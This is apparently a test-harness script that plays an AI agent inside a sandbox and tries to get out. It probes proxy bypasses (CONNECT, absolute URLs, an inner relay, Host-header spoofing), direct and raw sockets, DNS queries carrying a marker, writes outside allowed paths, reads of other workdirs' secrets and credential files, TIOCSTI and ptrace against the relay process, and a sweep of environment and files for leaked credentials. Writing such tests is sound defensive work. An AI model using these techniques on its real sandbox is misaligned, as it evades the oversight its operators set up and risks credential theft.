"""Escape probes, run as the agent inside the sandbox by tests/integration/test_sandbox_escape.py.

Standard library only (it runs with the system python3 inside the sandbox).
Reads its targets from ``/sandbox/input.json`` (addresses and ports of the
servers the test started on the HOST's loopback, never anything else), tries
every way out (BUG-20's probes and more), and writes what happened to
``/sandbox/probes.json``; what it could read, for the credential search, goes
to ``/sandbox/haystack.txt``. It judges nothing: the test does.
"""
import errno
import fcntl
import glob
import http.client
import json
import os
import socket
import struct
import subprocess
import termios
import threading
import time
import urllib.error
import urllib.request

TIMEOUT = 2.0
cfg = json.load(open("/sandbox/input.json"))
base = os.environ.get("ANTHROPIC_BASE_URL", "")
relay_host, relay_port = base.rsplit("//", 1)[-1].split(":")
relay_port = int(relay_port)
results = {}


def probe(name):
    def wrap(fn):
        try:
            results[name] = fn()
        except Exception as exc:  # noqa: BLE001 - a probe's failure is its result
            results[name] = {"exception": f"{type(exc).__name__}: {exc}"}
        return fn
    return wrap


def outcome(fn):
    """{"ok": value} or {"error": errno name / exception}."""
    try:
        return {"ok": fn()}
    except OSError as exc:
        return {"error": errno.errorcode.get(exc.errno, str(exc.errno)) if exc.errno else type(exc).__name__,
                "text": str(exc)}
    except Exception as exc:  # noqa: BLE001
        return {"error": type(exc).__name__, "text": str(exc)}


def http_request(method, target, body=None, headers=None, host=relay_host, port=relay_port):
    conn = http.client.HTTPConnection(host, port, timeout=10)
    conn.request(method, target, body=body, headers=headers or {})
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return {"status": resp.status, "refused": resp.getheader("x-tco-proxy-refused"), "body": data[:300].decode("utf-8", "replace")}


MESSAGE = json.dumps({"model": "claude-probe", "max_tokens": 16,
                      "messages": [{"role": "user", "content": "probe"}]}).encode()
MESSAGE_HEADERS = {"content-type": "application/json", "anthropic-version": "2023-06-01",
                   "x-api-key": os.environ.get("ANTHROPIC_API_KEY", "")}
forbidden = f"{cfg['forbidden_host']}:{cfg['forbidden_port']}"


@probe("P1_model_through_proxy")
def _():
    return http_request("POST", "/v1/messages", MESSAGE, MESSAGE_HEADERS)


@probe("P2_connect_forbidden")
def _():
    return outcome(lambda: http_request("CONNECT", forbidden))


@probe("P2_absolute_get_forbidden")
def _():
    return outcome(lambda: http_request("GET", f"http://{forbidden}/"))


@probe("P3_absolute_post_forbidden")
def _():
    return outcome(lambda: http_request("POST", f"http://{forbidden}/v1/messages", MESSAGE, MESSAGE_HEADERS))


@probe("P3_absolute_post_model_https")
def _():
    # The allowed host, named in absolute form, on a port the policy does not list.
    return outcome(lambda: http_request("POST", f"http://{cfg['model_host']}:1/v1/messages", MESSAGE, MESSAGE_HEADERS))


@probe("P4_direct_forbidden_no_proxy")
def _():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # proxy variables ignored
    return {"tcp": outcome(lambda: socket.create_connection((cfg["forbidden_host"], cfg["forbidden_port"]),
                                                            TIMEOUT).close()),
            "http": outcome(lambda: opener.open(f"http://{forbidden}/", timeout=TIMEOUT).status),
            "proxy_env": sorted(k for k in os.environ if k.lower().endswith("_proxy"))}


@probe("P5_direct_model")
def _():
    return outcome(lambda: socket.create_connection((cfg["model_host"], cfg["model_port"]), TIMEOUT).close())


@probe("P6_sockets")
def _():
    out = {}
    for label, family, addr in (("v4_model", socket.AF_INET, (cfg["model_host"], cfg["model_port"])),
                                ("v4_forbidden", socket.AF_INET, (cfg["forbidden_host"], cfg["forbidden_port"])),
                                ("v6_forbidden", socket.AF_INET6, ("::1", cfg["forbidden_port"])),
                                ("v6_model", socket.AF_INET6, ("::1", cfg["model_port"]))):
        def connect(family=family, addr=addr):
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(TIMEOUT)
            try:
                s.connect(addr)
            finally:
                s.close()
        out[label] = outcome(connect)
    out["udp_forbidden"] = outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        b"probe", (cfg["forbidden_host"], cfg["forbidden_port"])))
    out["raw_icmp"] = outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    out["raw_icmpv6"] = outcome(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6).close())
    out["packet"] = outcome(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close())
    out["interfaces"] = [name for _, name in socket.if_nameindex()]
    return out


def dns_query(name):
    return struct.pack(">HHHHHH", 0x7c0, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)


@probe("P7_dns")
def _():
    name = f"{cfg['marker']}.tco-probe.invalid"
    out = {"getaddrinfo": outcome(lambda: socket.getaddrinfo(name, 80)),
           "gethostbyname": outcome(lambda: socket.gethostbyname(name))}
    # A resolver reading an /etc/resolv.conf that names 127.0.0.53 (written where the agent can write).
    with open("/tmp/resolv.conf", "w") as fh:
        fh.write("nameserver 127.0.0.53\n")
    server = open("/tmp/resolv.conf").read().split()[1]
    for port in (53, cfg["resolver_port"]):
        def udp(port=port):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(TIMEOUT)
            s.connect((server, port))
            s.send(dns_query(name))
            return s.recv(512).hex()
        def tcp(port=port):
            s = socket.create_connection((server, port), TIMEOUT)
            q = dns_query(name)
            s.sendall(struct.pack(">H", len(q)) + q)
            return s.recv(512).hex()
        out[f"udp_{port}"] = outcome(udp)
        out[f"tcp_{port}"] = outcome(tcp)
    out["resolv_conf"] = outcome(lambda: open("/etc/resolv.conf").read())
    return out


@probe("P8_inner_relay_connect")
def _():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    inner_port = listener.getsockname()[1]

    def serve():
        client, _ = listener.accept()
        upstream = socket.create_connection((relay_host, relay_port), 5)
        def pipe(a, b):
            try:
                while True:
                    data = a.recv(65536)
                    if not data:
                        break
                    b.sendall(data)
            except OSError:
                pass
            try:
                b.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        t = threading.Thread(target=pipe, args=(upstream, client))
        t.start()
        pipe(client, upstream)
        t.join()
    threading.Thread(target=serve, daemon=True).start()
    return {"connect": outcome(lambda: http_request("CONNECT", forbidden, port=inner_port))}


@probe("P9_host_header")
def _():
    return http_request("POST", "/v1/messages", MESSAGE, {**MESSAGE_HEADERS, "Host": forbidden})


@probe("files")
def _():
    def write(path):
        with open(path, "w") as fh:
            fh.write("escape")
        return path
    out = {}
    for path in ("/x", "/etc/x", "/usr/x", "/run/tco/x", "/run/x", cfg["spool"] + "/x", cfg["other_workdir"] + "/x",
                 "/proc/sys/kernel/hostname", "/dev/x"):
        out[f"write {path}"] = outcome(lambda p=path: write(p))
    for path in ("/sandbox/ok", "/tmp/ok"):
        out[f"write {path}"] = outcome(lambda p=path: write(p))
    for path in (cfg["other_workdir"] + "/secret.txt", cfg["credentials_file"], cfg["spool"] + "/campaigns",
                 cfg["state_secret"], "/sandbox/../" + cfg["other_workdir"].lstrip("/") + "/secret.txt"):
        out[f"read {path}"] = outcome(lambda p=path: open(p).read())
    out["listdir /"] = sorted(os.listdir("/"))
    out["listdir /run/tco"] = outcome(lambda: os.listdir("/run/tco"))
    return out


@probe("process")
def _():
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    cmdlines = {}
    for pid in pids:
        try:
            cmdlines[pid] = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
        except OSError as exc:
            cmdlines[pid] = f"<{exc.strerror}>"
    def tiocsti():
        fcntl.ioctl(0, termios.TIOCSTI, b"x")
    def nested_userns():
        return subprocess.run(["unshare", "-U", "true"], capture_output=True, timeout=10).returncode
    return {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "cap_eff": status.get("CapEff", "").strip(),
            "cap_bnd": status.get("CapBnd", "").strip(), "no_new_privs": status.get("NoNewPrivs", "").strip(),
            "pid": os.getpid(), "sid": os.getsid(0), "pids": pids, "cmdlines": cmdlines,
            "hostname": socket.gethostname(), "dev_tty": outcome(lambda: open("/dev/tty").close()),
            "tiocsti": outcome(tiocsti), "nested_userns": outcome(nested_userns),
            "fds": sorted(os.listdir("/proc/self/fd"))}


@probe("relay_tamper")
def _():
    """The relay (PID 1) reports the stage times and exit status: the agent, same uid, must not reach into it."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    PTRACE_ATTACH = 16

    def attach():
        if libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return "attached"

    return {"mem": outcome(lambda: open("/proc/1/mem", "rb").read(1)),
            "fds": outcome(lambda: os.listdir("/proc/1/fd")),
            "ptrace": outcome(attach)}


# P10: everything the agent can read, for the test to search for the credential.
with open("/sandbox/haystack.txt", "wb") as hay:
    hay.write(json.dumps(dict(os.environ)).encode() + b"\n")
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            hay.write(path.encode() + b": " + open(path, "rb").read() + b"\n")
        except OSError:
            pass
    for root in ("/sandbox", "/tmp", "/run", "/etc", "/home", "/root"):
        for directory, _, names in os.walk(root):
            for name in names:
                path = os.path.join(directory, name)
                if path == "/sandbox/haystack.txt":
                    continue
                try:
                    if os.path.getsize(path) < 1 << 20:
                        hay.write(path.encode() + b": " + open(path, "rb").read() + b"\n")
                except OSError:
                    pass

with open("/sandbox/probes.json", "w") as fh:
    json.dump(results, fh, indent=1, default=str)
print("probes done:", len(results))
time.sleep(0)
